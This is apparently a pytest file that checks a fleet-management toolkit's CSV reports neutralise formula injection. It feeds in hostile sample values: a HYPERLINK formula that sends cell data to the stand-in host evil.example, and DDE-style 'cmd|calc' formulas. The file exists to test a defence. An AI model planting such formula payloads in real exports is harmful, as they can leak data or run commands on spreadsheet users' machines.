"""CSV injection (issue 14 #7): values that come from hosts reach every CSV report (audit,
run, remediate --check, probe) as text, never as a formula a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tests.support.cli import run_cli
from tests.support.labfleet import lab_fleet_fixtures
from toolkit.lab.fleet import Fleet
from toolkit.report import csvsafe

WS = r"HKLM:\SYSTEM\CurrentControlSet\Services\LanmanWorkstation\Parameters"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3",
]
SPEC = (
    "users:\n  - {name: admin, password: 'Adm1n-Lab!', admin: true}\nhosts:\n"
    "  - name: fs01\n    profile: server2019\n    registry:\n"
    f"      '{WS}':\n"
    f"        RequireSecureNegotiate: {{kind: String, value: '{PAYLOADS[0].replace(chr(39), chr(39) * 2)}'}}\n"
    f"        Comment1: {{kind: String, value: '{PAYLOADS[1].replace(chr(39), chr(39) * 2)}'}}\n"
    f"        Comment2: {{kind: String, value: '{PAYLOADS[2]}'}}\n"
    f"        Comment3: {{kind: String, value: '{PAYLOADS[3]}'}}\n"
)


fleet, inventory = lab_fleet_fixtures(SPEC, "security-csv")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text: str) -> None:
    dangerous = [
        c for c in cells(text) if c.startswith(csvsafe.FORMULA_STARTS) and not c.lstrip("+-").isdigit()
    ]
    assert not dangerous, dangerous


@pytest.fixture()
def hostile_inventory(fleet: Fleet, tmp_path: Path) -> Path:
    """The lab plus a host whose inventory name is a formula (an inventory from elsewhere):
    the host's own values appear inside longer cells, the name starts its row."""
    path = tmp_path / "hostile.yml"
    path.write_text(fleet.inventory_text() + '  "=cmd|calc!A0":\n    address: 127.0.0.1\n    port: 9\n')
    return path


def test_audit_csv(hostile_inventory: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run_cli(
        ["audit", "-i", str(hostile_inventory), "--format", "csv", "--timeout", "5"], capsys
    )
    assert code == 12, err  # fs01 drifts, the formula-named host is not reached
    assert "'=cmd|calc!A0" in cells(out)
    assert any("=HYPERLINK(" in c for c in cells(out))
    assert_no_formula(out)


def test_run_csv(inventory: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run_cli(
        ["run", "-i", str(inventory), "--format", "csv", "--cmdlet", "Get-ItemProperty", "-p", f"Path={WS}"],
        capsys,
    )
    assert code == 0, err
    found = cells(out)
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"open")' in found
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in found and "'+1+cmd" in found and "'-2+3" in found
    assert_no_formula(out)


def test_remediate_check_csv(hostile_inventory: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run_cli(
        ["remediate", "-i", str(hostile_inventory), "--check", "--format", "csv", "--timeout", "5"], capsys
    )
    assert code == 12, err  # fs01 drifts, the formula-named host is not reached
    assert "'=cmd|calc!A0" in cells(out)
    assert_no_formula(out)


def test_probe_csv(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "probe.yml"
    path.write_text(
        'psfleet: 1\nhosts:\n  "@SUM(1+1)*cmd|calc!A0":\n    address: 127.0.0.1\n    smb_port: 9\n'
    )
    code, out, err = run_cli(["probe", "smb", "-i", str(path), "--format", "csv", "--timeout", "5"], capsys)
    assert code == 8, err
    assert "'@SUM(1+1)*cmd|calc!A0" in cells(out)
    assert_no_formula(out)


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-cmd", "'-cmd"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-1", "-1"),
        ("+2.5", "+2.5"),
        ("fs01", "fs01"),
        ("a=b", "a=b"),
        (3, 3),
    ],
)
def test_neutralise(cell: object, shown: object) -> None:
    assert csvsafe.neutralise(cell) == shown
